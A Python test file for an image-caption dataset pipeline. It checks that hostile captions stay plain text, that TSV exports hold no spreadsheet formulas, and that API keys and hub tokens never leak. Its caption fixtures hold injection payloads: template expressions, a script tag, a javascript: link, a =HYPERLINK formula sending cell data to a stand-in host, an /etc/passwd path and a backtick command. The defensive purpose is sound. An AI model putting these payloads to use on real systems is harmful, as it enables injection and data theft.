"""What comes from elsewhere is data: captions, images, what servers say. Keys stay where they are."""

import csv
import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import open_clip
import pyarrow.parquet as pq
import pytest
import torch
import training_runs
from bad_inputs.case import tree
from loopback_clients import take_over
from loopback_hub import Fault, LoopbackHub
from made_datasets import make, pair
from scripted_server import Answer, ScriptedServer, rewrite

from tbpr_data.pipeline.llm.models import choose_model
from tbpr_data.pipeline.llm.server import ServerConfig, VllmServer
from tbpr_data.pipeline.publish.exports.registry import FORMATS
from tbpr_data.pipeline.publish.hub import Hub
from tbpr_data.prompts.registry import load_prompt, prompt_names
from tbpr_data.schemas.errors import UserError

Start = Callable[..., ScriptedServer]

KEY = "sk-sesame-0123456789"
CAPTIONS = (
    "A man {{ 7 * 7 }} {% raw %} in {# a #} {{ caption.__class__ }} red coat walks to the left.",
    'A woman </td><script>alert("a")</script> | --- | wears <b>red</b> &amp; black pants.',
    '=HYPERLINK("http://x.invalid/?"&A1,"A man in a red coat with a black hat")',
    "A man in a red coat is at ../../../etc/passwd and holds %s {0.__class__} $HOME `id`.",
    "# A man **in** a [red](javascript:alert(1)) coat\\ and ![black](http://x.invalid/a.png) pants ---",
)


def source(folder: Path) -> Path:
    records = [
        {"split": "train", "captions": [text], "file_path": f"{n}.jpg", "processed_tokens": [], "id": n}
        for n, text in enumerate(CAPTIONS, start=1)
    ]
    path = folder / "reid_raw.json"
    path.write_text(json.dumps(records), encoding="utf-8")
    return path


def augment(folder: Path, url: str, *more: str) -> training_runs.Done:
    fixed = ("--samples", "1", "--no-negatives", "--set", "workers=1", "--set", "server.attempts=1")
    return training_runs.run("augment", source(folder), "--endpoint", url, "--out", folder / "out", *fixed, *more)


# Captions.


def test_a_caption_is_only_ever_text(tmp_path: Path, scripted: Start) -> None:
    server, before = scripted(), tree(tmp_path)
    recipes = [word for name in prompt_names() for word in ("--recipe", name)]
    done = augment(tmp_path, server.url, *recipes)
    assert done.returncode == 0, done.stderr
    # To the model it goes as it is: nothing of it is a template.
    asked = [body["messages"][-1]["content"] for body in server.chats]
    assert len(asked) == len(CAPTIONS) * len(prompt_names())
    for name in prompt_names():
        ask = load_prompt(name).user.replace("{{ caption }}", "{}").strip()
        assert set(CAPTIONS) <= {one.removeprefix(ask.partition("{}")[0]) for one in asked}
    # In the rows it is as it was; nowhere is a file that it names.
    rows = pq.read_table(tmp_path / "out/data/train-00000-of-00001.parquet").to_pylist()
    assert tuple(row["text"] for row in rows if row["origin"] == "human") == CAPTIONS
    assert all(name == "reid_raw.json" or name.startswith("out") for name in tree(tmp_path).keys() - before.keys())
    # The card tells of the dataset, not from it.
    card = (tmp_path / "out/README.md").read_text(encoding="utf-8")
    assert not any(word in card for word in ("<script>", "javascript:", "HYPERLINK", "passwd", "{{ 7", "x.invalid"))


def test_no_cell_of_an_export_is_a_formula(tmp_path: Path) -> None:
    texts = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "a = 1", *CAPTIONS]
    rows = [pair(f"{n}.jpg", text, pid=n, negatives=["A man."]) for n, text in enumerate(texts)]
    rows.append(pair("=1+1.jpg", "A man.", pid=99, negatives=["A woman."]))
    FORMATS["negclip-tsv"].export(make(tmp_path / "in", rows), tmp_path / "out", None)
    with (tmp_path / "out/train.tsv").open(encoding="utf-8", newline="") as file:
        cells = list(csv.reader(file, delimiter="\t"))
    assert not [cell for line in cells for cell in line if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    # Trainers read what they would have read.
    tokenizer = open_clip.get_tokenizer("ViT-B-32")
    assert torch.equal(tokenizer([line[0] for line in cells[1:]]), tokenizer([*texts, "A man."]))
    assert Path(cells[-1][1]) == Path("=1+1.jpg")


# Keys.

_FAULTS: dict[str, dict[str, Any]] = {
    "refused": {"key": "another"},
    "echoed": {"answer": lambda body, count: Answer(f"no use for Bearer {KEY} here", status=401)},
    "echoed later": {
        "answer": lambda body, count: (
            Answer(f"key {KEY} is out of credit", status=402) if count else rewrite(body, count)
        )
    },
    "echoed of each": {
        "answer": lambda body, count: Answer(f"not for {KEY}", status=400) if count else rewrite(body, count)
    },
    "broken": {"answer": lambda body, count: Answer(f"{KEY} met a bug", status=500) if count else rewrite(body, count)},
    "dead": {"answer": lambda body, count: Answer(dies=True) if count else rewrite(body, count)},
    "well": {},
}


@pytest.mark.parametrize("fault", _FAULTS)
def test_no_key_is_ever_told(fault: str, tmp_path: Path, scripted: Start, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SOME_KEY", KEY)
    told = augment(tmp_path, scripted(**_FAULTS[fault]).url, "--set", "server.api_key_env=SOME_KEY")
    # A server may refuse single requests: that is no failure of the run.
    assert told.returncode == {"well": 0, "echoed of each": 0, "broken": 3}.get(fault, 1)
    assert KEY not in told.stderr + told.stdout
    written = [path for path in tmp_path.rglob("*") if path.is_file()]
    assert [path for path in written if KEY.encode() in path.read_bytes()] == []
    # Parquet is compressed.
    rows = [row for path in tmp_path.rglob("*.parquet") for row in pq.read_table(path).to_pylist()]
    assert KEY not in json.dumps(rows, default=str)
    if fault == "echoed of each":
        assert {row["error"] for row in rows if row.get("error")} == {"HTTP 400: not for …"}


@pytest.mark.parametrize("status", [401, 403, 500])
def test_the_hubs_token_is_never_told(status: int, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    said: list[str] = []
    monkeypatch.setattr("tenacity.nap.time.sleep", lambda seconds: None)
    with LoopbackHub(tmp_path / "hub", token="hf_sesame0123456789") as hub:
        take_over(hub, tmp_path / "home", monkeypatch)
        monkeypatch.setattr("huggingface_hub.utils._http.time.sleep", lambda seconds: None)
        hub.faults = lambda method, path, count: Fault(status=status, body=f"Bearer {hub.token} may not")
        with pytest.raises(UserError) as caught:
            Hub("user/people", say=said.append).make(private=False, revision=None)
    assert hub.token not in str(caught.value) + "".join(said)


# The server that a run starts.


def test_the_servers_key_is_on_no_command_line_and_it_listens_to_this_machine(tmp_path: Path) -> None:
    folder = tmp_path / "tiny"
    folder.mkdir()
    (folder / "config.json").write_text("{}")
    (folder / "model.safetensors").write_bytes(b"no weights")
    model = choose_model(str(folder))
    one, two = (VllmServer(model, ServerConfig(), log_path=tmp_path / "log") for _ in range(2))
    command = one.command()
    assert command[command.index("--host") + 1] == "127.0.0.1"
    assert command.count("--host") == 1
    assert one.base_url.startswith("http://127.0.0.1:")
    assert len(one.api_key) >= 32
    assert one.api_key != two.api_key
    assert not any(one.api_key in word for word in command)
    assert one.environment()["VLLM_API_KEY"] == one.api_key
    assert "VLLM_API_KEY" not in os.environ
